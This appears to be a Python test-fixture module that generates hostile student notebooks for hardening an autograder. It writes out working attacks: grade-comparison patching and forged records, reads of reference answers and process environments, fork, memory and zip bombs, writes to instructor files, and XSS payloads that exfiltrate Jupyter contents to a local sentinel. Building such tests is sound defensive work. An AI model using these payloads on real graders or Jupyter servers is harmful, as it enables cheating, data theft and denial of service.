"""Submissions for the grading tests: a released notebook filled in by a
correct, a blank or a hostile student.

A correct submission answers every autograded exercise of its student's
variant with literal numbers (what a student's code would print) or, for the
exercises that ask for a function, with a function written here.  Each
hostile submission is a correct or a wrong one plus one attack (HOSTILE);
``HONEST`` says what it earns without its attack, which is the most the
grader may give it.
"""

import base64
import json
import re

import nbformat
import numpy as np

from answers.grading import expected
from aukbook.checks import CHECKS

# Function answers, written as a student would (not the reference's code).
FUNCTIONS = {
    "ch1-ex-counts": (
        "def kappa(tp, fn, fp, tn):\n"
        "    n = tp + fn + fp + tn\n"
        "    p, q = (tp + fn) / n, (tp + fp) / n\n"
        "    return 2 * (tp * tn - fn * fp) / n**2 / (q * (1 - p) + p * (1 - q))\n"),
    "ch3-ex-corner": (
        "def kappa(p):\n"
        "    # eq. (19) at t = 0, f = 1\n"
        "    return -2 * p * (1 - p) / (1 - 2 * p * (1 - p))\n"),
}
WRONG_FUNCTION = "def kappa(*args):\n    return 0.123\n"
# where the markup attacks send their requests (tests/test_grading_sanitize.py
# counts what reaches it)
SENTINEL = "http://127.0.0.1:47913"


def answer_name(label):
    return "answer_" + label.split("-ex-", 1)[1].replace("-", "_")


def labels_of(nb):
    return [c.metadata["nbgrader"]["grade_id"][:-len("-answer")] for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-answer")]


def answer_source(label, student_id, wrong=False, key=None):
    name = answer_name(label)
    if CHECKS[label]["kind"] == "function":
        return (WRONG_FUNCTION if wrong else FUNCTIONS[label]) + f"{name} = kappa"
    value = np.ravel(expected(label, student_id, key)).tolist()
    if wrong:          # the right form, and digits that share nothing with the reference
        value = [-987.25 - i for i in range(len(value))]
    return f"{name} = {value[0]!r}" if len(value) == 1 else f"{name} = {value!r}"


def fill(release, student_id, *, blank=False, wrong=(), all_wrong=False, extra=None,
         extra_after=None, written="My derivation: ...", key=None):
    """A copy of the released notebook, filled in (``key``: the course key
    it was released with).

    ``wrong`` lists labels answered wrongly (right form, wrong value);
    ``extra`` is a code cell put after the STUDENT_ID cell, ``extra_after``
    one put after the hidden test of the first autograded exercise."""
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    if blank:
        return nb
    cells, first = [], None
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if cell.cell_type == "code" and re.search(r'^STUDENT_ID = ".*"', cell.source, re.M):
            cell.source = re.sub(r'^STUDENT_ID = ".*"', f'STUDENT_ID = "{student_id}"',
                                 cell.source, flags=re.M)
            cells.append(cell)
            if extra:
                cells.append(nbformat.v4.new_code_cell(extra))
            continue
        if gid.endswith("-answer"):
            label = gid[:-len("-answer")]
            cell.source = answer_source(label, student_id, all_wrong or label in wrong, key)
        elif gid.endswith("-written"):
            cell.source = written
        cells.append(cell)
        if gid.endswith("-value") and first is None:
            first = gid
            if extra_after:
                cells.append(nbformat.v4.new_code_cell(extra_after))
    nb.cells = cells
    return nb


# --- hostile submissions --------------------------------------------------------------
# Each: (what it does, fill() keyword arguments, what it earns honestly:
# "form" = the form points of wrong answers, "first" = the first exercise
# only (it stops the notebook after that exercise's hidden test), "full").

FIND_REFERENCES = '''\
import glob, os, sys
import aukbook
repo = os.path.dirname(os.path.dirname(os.path.dirname(aukbook.__file__)))
places = [os.path.join(repo, "tests"), repo, os.getcwd(), "/grading", "{course}/..",
          *os.environ.get("PYTHONPATH", "").split(os.pathsep)]
for top in ("/work", "/root", "/home", "/tmp", "/grading", "/srv", "/opt", repo):
    for hit in glob.glob(top + "/**/answers/grading.py", recursive=True):
        places.append(os.path.dirname(os.path.dirname(hit)))
sys.path[:0] = [p for p in places if p]
try:
    from answers.grading import expected, answer
    print("FOUND the reference answers")
except Exception as err:
    print("no reference answers here:", type(err).__name__)
'''

READ_REFERENCES = FIND_REFERENCES + '''\
leaks = []
for top in ("/work", "/root", "/home", "/tmp", "/grading", "/srv", "/opt", repo, "{course}"):
    for pattern in ("/**/answers/*.py", "/**/source/**/*.ipynb", "/**/gradebook.db",
                    "/**/chapters/*.ipynb", "/**/rubrics.md"):
        leaks += glob.glob(top + pattern, recursive=True)
for path in ["{course}/source/{aid}/{notebook}", "{course}/gradebook.db"] + leaks:
    try:
        print(path, open(path, errors="replace").read()[:200000])
    except Exception as err:
        print(path, "unreadable:", type(err).__name__)
'''

PRINT_REFERENCES = FIND_REFERENCES + '''\
from aukbook.checks import CHECKS
for label in CHECKS:
    try:
        print(label, expected(label, STUDENT_ID))
    except Exception as err:
        print(label, "no reference:", type(err).__name__)
for later in sorted(glob.glob(repo + "/tests/answers/ch*.py")):
    print(open(later).read())
print(dict(os.environ))
for path in ("/proc/1/cmdline", "/proc/1/environ", "/grading/in/probes.json"):
    try:
        print(path, open(path, errors="replace").read()[:2000])
    except Exception as err:
        print(path, type(err).__name__)
'''

PATCH_COMPARISON = '''\
import builtins, json, math
import numpy as np
# whatever compares an answer with a reference in this process now says "equal"
np.all = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.abs = np.absolute = lambda x, *a, **k: np.zeros(np.shape(x))
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
try:
    import answers.grading as g
    g.value_ok = g.function_ok = lambda *a, **k: True
except Exception:
    pass
# and the recorder: claim the tests passed
try:
    import aukgrade
    _record = aukgrade.record
    def record(label, name):
        with open("/grading/out/records.jsonl", "a") as fh:
            fh.write(json.dumps({"label": label, "passed": True, "value_ok": True}) + "\\n")
        _record(label, name)
    aukgrade.record = record
except Exception:
    pass
'''

PATCH_LIBRARY = '''\
import numpy as np, scipy.optimize, scipy.stats, sklearn.metrics
import auklib
# every library function a reference could call now returns the wrong answer
for module in (auklib, sklearn.metrics):
    for name in dir(module):
        if callable(getattr(module, name)) and not name.startswith("_"):
            setattr(module, name, lambda *a, **k: 0.123)
scipy.optimize.brentq = lambda *a, **k: 0.123
np.interp = lambda *a, **k: 0.123
'''

EXIT = "import os\nos._exit(0)\n"
KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
SYS_EXIT = "import sys\nsys.exit('bye')\n"
INFINITE_LOOP = '''\
while True:                 # an endless loop that swallows the interrupt
    try:
        while True:
            pass
    except BaseException:
        pass
'''
MEMORY_BOMB = '''\
hog = []
while True:
    hog.append(b"x" * (64 << 20))
'''
FORK_BOMB = '''\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''
WRITE_OUTSIDE = '''\
import glob, json, os
import aukbook
repo = os.path.dirname(os.path.dirname(os.path.dirname(aukbook.__file__)))
targets = [repo + "/tests/answers/grading.py", repo + "/auklib/__init__.py",
           repo + "/bookkit/aukbook/checks/__init__.py", "/grading/lib/aukgrade.py",
           "/grading/in/probes.json", "{course}/gradebook.db", "{course}/nbgrader_config.py",
           "{course}/submitted/{other}/{aid}/{notebook}", "/work/pwned", "/root/pwned",
           "/etc/pwned", os.path.expanduser("~/.ipython/profile_default/startup/x.py")]
for path in targets + glob.glob("/tmp/aukgrade-*/**", recursive=True):
    try:
        with open(path, "a") as fh:
            fh.write("\\nPWNED = True\\n")
        print("wrote", path)
    except Exception as err:
        print("cannot write", path, type(err).__name__)
# forged records, and links from the grader's output folder to instructor files
try:
    with open("/grading/out/records.jsonl", "a") as fh:
        for label in {labels!r}:
            fh.write(json.dumps({"label": label, "values": [0.5, 0.5, 0.5]}) + "\\n")
    for name, target in (("executed.ipynb", "{course}/source/{aid}/{notebook}"),
                         ("status.json", "/etc/passwd")):
        path = "/grading/out/" + name
        if os.path.exists(path) or os.path.islink(path):
            os.remove(path)
        os.symlink(target, path)
except Exception as err:
    print("out:", type(err).__name__, err)
'''

# Markup that would run in the instructor's browser (the formgrader, inside
# their logged-in Jupyter session) or the feedback page, or make a request from
# it: as a written answer, a Markdown cell, a raw cell, outputs produced when the
# notebook runs and outputs stored in the file.  {sentinel} is an HTTP server
# of the test that counts the requests it gets; every script also sets
# window.__pwned and the page's title.
PWN = ("window.__pwned = (window.__pwned || 0) + 1; document.title = 'PWNED'; "
       "fetch('/api/contents/').then(r => r.text()).then(t => "
       "fetch('{sentinel}/exfiltrate?' + encodeURIComponent(t.slice(0, 200))))")
MARKUP = f'''\
My derivation: kappa is $2(ad - bc) / ((a+b)(b+d) + (a+c)(c+d))$, with $a<b$ here.

<script>{PWN}</script>

<img src="x" onerror="{PWN}"> <img src="{{sentinel}}/img.png">

[a javascript: link](javascript:{PWN}) [an entity-encoded one](&#106;avascript:alert(1))
<a href="javascript:alert(1)">raw link</a>
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<iframe src="{{sentinel}}/iframe" srcdoc="<script>parent.{PWN}</script>"></iframe>

<form action="{{sentinel}}/form" method="post"><input name="x" value="y" autofocus
onfocus="{PWN}"><button formaction="javascript:alert(1)">Send</button></form>

<svg onload="{PWN}"><script>{PWN}</script><image href="{{sentinel}}/svg.png"/></svg>

<style>body {{ background: url({{sentinel}}/style.png) }}</style>
<div style="background-image: url({{sentinel}}/inline-style.png)">styled</div>

<meta http-equiv="refresh" content="0; url={{sentinel}}/meta"><base href="{{sentinel}}/base/">
<link rel="stylesheet" href="{{sentinel}}/link.css">

<object data="{{sentinel}}/object"></object><embed src="{{sentinel}}/embed">

![a remote image]({{sentinel}}/markdown-image.png) ![ref image][r]

[r]: {{sentinel}}/ref-image.png

<details open ontoggle="{PWN}"><summary>details</summary></details>
<video><source onerror="{PWN}"></video> <audio src="x" onerror="{PWN}"></audio>

$\\href{{javascript:alert(1)}}{{x}}$
'''
DISPLAY_MARKUP = (
    "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
    f"pwn = {PWN!r}\n"
    "display(HTML('<b>bold</b><script>' + pwn + '</script><img src=x onerror=\"' + pwn + '\">'))\n"
    "display(Javascript(pwn))\n"
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"' + pwn + '\">'\n"
    "            '<circle r=\"5\"/></svg>'))\n"
    "display(Markdown('<script>' + pwn + '</script>'))\n"
    "display({'text/html': \"<iframe src='{sentinel}/display-iframe'></iframe>\",\n"
    "         'image/png': 'x\" onerror=\"' + pwn, 'text/plain': 'x'}, raw=True)\n")


def add_markup(nb, sentinel):
    """The markup attacks that are not a cell's source: a raw cell, outputs
    stored in the file, forged metadata (cell tags, attachments, the notebook's
    title)."""
    pwn = PWN.replace("{sentinel}", sentinel)
    raw = nbformat.v4.new_raw_cell(f"<script>{pwn}</script><img src=x onerror=\"{pwn}\">")
    raw.metadata["raw_mimetype"] = "text/html"
    cells = [raw, nbformat.v4.new_raw_cell(f"<script>{pwn}</script>")]
    stored = nbformat.v4.new_code_cell("print('stored outputs')")
    stored.execution_count = 1
    stored.outputs = [nbformat.v4.new_output("display_data", data={
        "text/html": f"<script>{pwn}</script><p onclick=\"{pwn}\">table</p>",
        "application/javascript": pwn,
        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{pwn}"/>',
        "image/png": f'x" onerror="{pwn}',
        "text/markdown": f"<script>{pwn}</script>",
        "text/latex": f"$\\href{{javascript:{pwn}}}{{x}}$",
        "text/plain": "stored"})]
    # (a tag may not hold a comma: nbformat's schema)
    stored.metadata["tags"] = ['x" onmouseover="window.__pwned = 1; document.title = `PWNED`']
    cells.append(stored)
    md = nbformat.v4.new_markdown_cell("![attached](attachment:a.svg)")
    md.attachments = {"a.svg": {"image/svg+xml": base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{pwn}"/>'.encode()).decode()}}
    cells.append(md)
    nb.cells.extend(cells)
    nb.metadata["title"] = f"</title><script>{pwn}</script>"
    return nb

# a process that outlives the kernel and keeps replacing the runner's status
# file with one of the wrong types (the grader once failed on it with a TypeError)
FORGE_STATUS = '''\
import json, subprocess, sys
forged = json.dumps({"cells": "many", "ran": -1, "stopped": 7, "stopped_cell": [1],
                     "interrupted": 5})
loop = ("import os, time\\nwhile True:\\n"
        "    open('/grading/out/.f', 'w').write(%r)\\n"
        "    os.replace('/grading/out/.f', '/grading/out/status.json')\\n"
        "    time.sleep(0.005)\\n" % forged)
subprocess.Popen([sys.executable, "-c", loop], start_new_session=True)
'''
# execution counts no kernel gives: nbgrader once found the graded notebook
# invalid ("Notebook is invalid after preprocessor") and saved no mark at all
NEGATIVE_COUNT = "get_ipython().execution_count = -100\n"
# the notebook writes over the file its hidden tests record the answers in
# (9 MiB of "x": past what the grader reads); it once scored 0 as "finished",
# unflagged
OVERWRITE_RECORDS = '''\
import os
with open(os.path.join(os.environ.get("AUKGRADE_OUT", "."), "records.jsonl"), "w") as fh:
    fh.write("x" * (9 << 20))
'''
# a cell that never ends, uses no CPU and swallows the interrupt
HANG = '''\
import time
while True:
    try:
        time.sleep(3600)
    except BaseException:
        pass
'''

# name: (fill() keywords, honest earnings)
HOSTILE = {
    "import-references": ({"extra": FIND_REFERENCES, "references": True}, "form"),
    "read-references": ({"extra": READ_REFERENCES, "all_wrong": True}, "form"),
    "patch-comparison": ({"extra": PATCH_COMPARISON, "all_wrong": True}, "form"),
    "patch-library": ({"extra": PATCH_LIBRARY, "constant": 0.123}, "form"),
    "print-references": ({"extra": PRINT_REFERENCES, "all_wrong": True}, "form"),
    "exit-process": ({"extra_after": EXIT}, "first"),
    "kill-parent": ({"extra_after": KILL_PARENT}, "first"),
    "sys-exit": ({"extra_after": SYS_EXIT}, "full"),
    "infinite-loop": ({"extra_after": INFINITE_LOOP}, "first"),
    "memory-bomb": ({"extra_after": MEMORY_BOMB}, "first"),
    "fork-bomb": ({"extra_after": FORK_BOMB}, "first"),
    "write-outside": ({"extra_after": WRITE_OUTSIDE, "all_wrong": True}, "form"),
    "tamper-cells": ({"tamper": True}, "full"),
    "hostile-markup": ({"written": MARKUP, "extra_after": DISPLAY_MARKUP, "markup": True},
                       "full"),
    "forge-status": ({"extra": FORGE_STATUS}, "full"),
    "negative-count": ({"extra": NEGATIVE_COUNT}, "full"),
    "overwrite-records": ({"extra_after": OVERWRITE_RECORDS}, "full"),
    "hang": ({"extra_after": HANG}, "first"),
}
# the six kinds every chapter is tested with (the others need no chapter's content)
EVERY_CHAPTER = ("import-references", "patch-comparison", "patch-library",
                 "print-references", "exit-process", "infinite-loop", "memory-bomb")


def honest_points(kind, labels):
    """The most a submission may score: what its answers earn without the attack."""
    n = len(labels)
    return {"form": n, "first": 3 if n else 0, "full": 3 * n}[kind]


def hostile(release, student_id, kind, *, course="", aid="", notebook="", other="s001",
            sentinel=SENTINEL):
    """The ``kind`` hostile submission of ``student_id`` (``sentinel``: the URL
    the markup attacks send their requests to)."""
    kwargs, _ = HOSTILE[kind]
    kwargs = dict(kwargs)
    labels = labels_of(release)
    fmt = dict(course=course, aid=aid, notebook=notebook, other=other, labels=labels,
               sentinel=sentinel)
    for key in ("extra", "extra_after", "written"):
        if key in kwargs:
            code = kwargs[key]
            for k, v in fmt.items():
                code = code.replace("{" + k + "}", str(v) if k != "labels" else repr(v))
            kwargs[key] = code.replace("{labels!r}", repr(labels))
    markup = kwargs.pop("markup", False)
    tamper = kwargs.pop("tamper", False)
    references = kwargs.pop("references", False)
    constant = kwargs.pop("constant", None)
    nb = fill(release, student_id, **kwargs)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        label = gid[:-len("-answer")] if gid.endswith("-answer") else None
        if label and references:      # use the references if the attack found them
            name = answer_name(label)
            get = (f"answer({label!r}).reference" if CHECKS[label]["kind"] == "function"
                   else f"expected({label!r}, STUDENT_ID)")
            cell.source = (f"try:\n    {name} = {get}\nexcept Exception:\n    "
                           + answer_source(label, student_id, wrong=True)
                           .replace("\n", "\n    "))
        elif label and constant is not None:
            name = answer_name(label)
            n = 1 if CHECKS[label]["kind"] == "function" else len(CHECKS[label]["digests"])
            cell.source = (f"{name} = lambda *a: {constant!r}" if CHECKS[label]["kind"]
                           == "function" else f"{name} = {[constant] * n if n > 1 else constant!r}")
    if tamper:
        cells = []
        for cell in nb.cells:
            md = cell.metadata.get("nbgrader", {})
            gid = md.get("grade_id", "")
            if gid.endswith("-value"):
                continue                                  # hidden test deleted
            if gid.endswith("-form"):
                cell.source = "pass"                      # locked test emptied
                md["points"] = 100                        # and made worth more
            cells.append(cell)
        bonus = nbformat.v4.new_code_cell("print('bonus')")
        bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": False,
                                      "points": 50, "schema_version": 3, "solution": False,
                                      "task": False}
        cells.append(bonus)
        nb.cells = cells
    if markup:
        add_markup(nb, sentinel)
    return nb


def nested_zip_bomb(path, levels=6, copies=8, size=256 << 10):
    """A zip of zips of zips ... (``levels`` archives deep, ``copies`` of the
    archive below in each): a few kilobytes that unpack, unbounded, to
    ``size * copies ** (levels - 1)`` bytes (8 GiB by default)."""
    import io
    import zipfile

    data = b"\0" * size
    name = "zeros.bin"
    for level in range(levels):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
            for i in range(1 if level == 0 else copies):
                zf.writestr(f"{i}-{name}" if level else name, data)
        data, name = buf.getvalue(), f"level{level + 1}.zip"
    with open(path, "wb") as fh:
        fh.write(data)
    return size * copies ** (levels - 1)
